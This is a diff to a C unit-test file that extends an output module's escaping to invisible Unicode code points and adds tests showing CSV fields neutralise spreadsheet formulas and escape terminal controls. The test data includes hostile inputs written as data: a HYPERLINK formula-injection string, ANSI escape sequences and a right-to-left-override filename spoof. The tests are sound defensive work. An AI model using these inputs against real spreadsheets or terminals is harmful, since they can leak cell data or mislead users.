@@ -23,9 +23,12 @@
  * Tables: columns as wide as their widest cell, no trailing blanks, one
  * line per row whatever the cells held.
  *
- * What out.c does NOT do today (raw ESC, C1, DEL and bidi controls in CSV
- * and JSON, spreadsheet formulas in CSV, invisible code points on a
- * terminal) is deliberately not tested here: see issue 11's report.
+ * Invisible code points (zero-width, tags, variation selectors, fillers)
+ * are escaped on a terminal too, as \\uXXXX or, beyond the BMP, \\UXXXXXXXX.
+ * CSV text fields (out_csv_text) take the terminal form and are led by a '
+ * when a spreadsheet would read them as a formula. (JSON is written by the
+ * commands with jansson's JSON_ENSURE_ASCII: every non-ASCII code point is
+ * a \\u escape there.)
  */
 #include <check.h>
 #include <stdbool.h>
@@ -122,6 +125,16 @@ static size_t utf8_get(const unsigned char *s, size_t n, uint32_t *cp)
 	return len;
 }
 
+/* Code points that show nothing, so two names that differ look the same. */
+static bool is_invisible(uint32_t cp)
+{
+	return cp == 0xad || cp == 0x115f || cp == 0x1160 || cp == 0x180e ||
+	       (cp >= 0x200b && cp <= 0x200d) || (cp >= 0x2028 && cp <= 0x2029) ||
+	       (cp >= 0x2060 && cp <= 0x2064) || cp == 0x3164 || (cp >= 0xfe00 && cp <= 0xfe0f) ||
+	       cp == 0xfeff || cp == 0xffa0 || (cp >= 0xe0000 && cp <= 0xe007f) ||
+	       (cp >= 0xe0100 && cp <= 0xe01ef);
+}
+
 static bool is_bidi(uint32_t cp)
 {
 	for (size_t i = 0; i < sizeof(bidi_controls) / sizeof(bidi_controls[0]); i++)
@@ -157,7 +170,8 @@ static bool terminal_safe(const char *s)
 		uint32_t cp;
 		size_t k = utf8_get(u + i, n - i, &cp);
 
-		if (k == 0 || cp < 0x20 || cp == 0x7f || (cp >= 0x80 && cp <= 0x9f) || is_bidi(cp))
+		if (k == 0 || cp < 0x20 || cp == 0x7f || (cp >= 0x80 && cp <= 0x9f) ||
+		    is_bidi(cp) || is_invisible(cp))
 			return false;
 		i += k;
 	}
@@ -211,10 +225,12 @@ static size_t unescape(const char *s, char *out)
 			s += 3;
 			break;
 		}
-		case 'u': {
+		case 'u':
+		case 'U': {
+			int digits = s[0] == 'u' ? 4 : 8;
 			uint32_t cp = 0;
 
-			for (int i = 1; i <= 4; i++) {
+			for (int i = 1; i <= digits; i++) {
 				int v = hexval(s[i]);
 
 				if (v < 0)
@@ -222,7 +238,7 @@ static size_t unescape(const char *s, char *out)
 				cp = cp * 16 + (uint32_t)v;
 			}
 			o += utf8_put(cp, out + o);
-			s += 5;
+			s += 1 + digits;
 			break;
 		}
 		default:
@@ -542,6 +558,17 @@ START_TEST(term_bidi_controls)
 }
 END_TEST
 
+/* Invisible code points are shown: "a" U+200B "b" is not "ab". */
+START_TEST(term_invisible_characters)
+{
+	expect_term(LIT("a\342\200\213b"), "a\\u200bb");
+	expect_term(LIT("\357\273\277bom"), "\\ufeffbom");
+	expect_term(LIT("soft\302\255hyphen"), "soft\\u00adhyphen");
+	expect_term(LIT("tag\363\240\200\201"), "tag\\U000e0001");
+	expect_term(LIT("line\342\200\250sep"), "line\\u2028sep");
+}
+END_TEST
+
 START_TEST(term_backslash_is_unambiguous)
 {
 	char *a, *b;
@@ -597,7 +624,7 @@ START_TEST(term_every_code_point)
 		CHECK(t, "out of memory");
 		CHECK(terminal_safe(t), "U+%04X unsafe on a terminal", (unsigned)cp);
 		if (cp < 0x20 || cp == 0x7f || (cp >= 0x80 && cp <= 0x9f) || is_bidi(cp) ||
-		    cp == '\\')
+		    is_invisible(cp) || cp == '\\')
 			CHECK(t[0] == '\\', "U+%04X not escaped", (unsigned)cp);
 		else
 			CHECK(strlen(t) == n && memcmp(t, in, n) == 0, "U+%04X changed",
@@ -863,6 +890,51 @@ START_TEST(csv_quoting)
 }
 END_TEST
 
+static void expect_csv_text(const char *field, const char *want)
+{
+	char *out = NULL;
+	size_t len;
+	FILE *f = open_memstream(&out, &len);
+
+	CHECK(f, "out of memory");
+	out_csv_text(f, field, true);
+	out_csv_end(f);
+	CHECK(fclose(f) == 0, "out of memory");
+	ck_assert_str_eq(out, want);
+	free(out);
+}
+
+/* A name that a spreadsheet would run as a formula is written as text. */
+START_TEST(csv_text_neutralises_formulas)
+{
+	expect_csv_text("=HYPERLINK(\"http://x/\"&A1)",
+			"\"'=HYPERLINK(\"\"http://x/\"\"&A1)\"\r\n");
+	expect_csv_text("+1", "'+1\r\n");
+	expect_csv_text("-2+3", "'-2+3\r\n");
+	expect_csv_text("@SUM(1)", "'@SUM(1)\r\n");
+	expect_csv_text("a=b", "a=b\r\n");
+	expect_csv_text("/hr/lön.xlsx", "/hr/lön.xlsx\r\n");
+	expect_csv_text(NULL, "\r\n");
+	expect_csv_text("", "\r\n");
+}
+END_TEST
+
+/* CSV text is shown as the table shows it: controls, C1, bidi and invisible
+ * code points escaped, so a CSV printed on a terminal cannot drive it. */
+START_TEST(csv_text_escapes_controls)
+{
+	expect_csv_text("a\x1b[31mb", "a\\x1b[31mb\r\n");
+	expect_csv_text("\t=1", "\\t=1\r\n");
+	expect_csv_text("\r=1", "\\r=1\r\n");
+	expect_csv_text("a\nb", "a\\nb\r\n");
+	expect_csv_text("x\302\233y", "x\\u009by\r\n");
+	expect_csv_text("invoice\342\200\256fdp.exe", "invoice\\u202efdp.exe\r\n");
+	expect_csv_text("a\342\200\213b", "a\\u200bb\r\n");
+	expect_csv_text("del\177", "del\\x7f\r\n");
+	expect_csv_text("a,\"b\"", "\"a,\"\"b\"\"\"\r\n");
+}
+END_TEST
+
 START_TEST(csv_separators)
 {
 	const char *const fields[] = {"id", NULL, "a,b", "", "z"};
@@ -1071,6 +1143,7 @@ int main(void)
 	tcase_add_test(term, term_invalid_utf8);
 	tcase_add_test(term, term_valid_boundaries_pass);
 	tcase_add_test(term, term_bidi_controls);
+	tcase_add_test(term, term_invisible_characters);
 	tcase_add_test(term, term_backslash_is_unambiguous);
 	tcase_add_test(term, term_nul_and_bytes_after_it);
 	tcase_add_test(term, empty);
@@ -1085,6 +1158,8 @@ int main(void)
 	tcase_add_test(utf8, json_strings);
 	suite_add_tcase(s, utf8);
 	tcase_add_test(csv, csv_quoting);
+	tcase_add_test(csv, csv_text_neutralises_formulas);
+	tcase_add_test(csv, csv_text_escapes_controls);
 	tcase_add_test(csv, csv_separators);
 	tcase_add_test(csv, csv_roundtrip);
 	tcase_add_test(csv, csv_long_field);
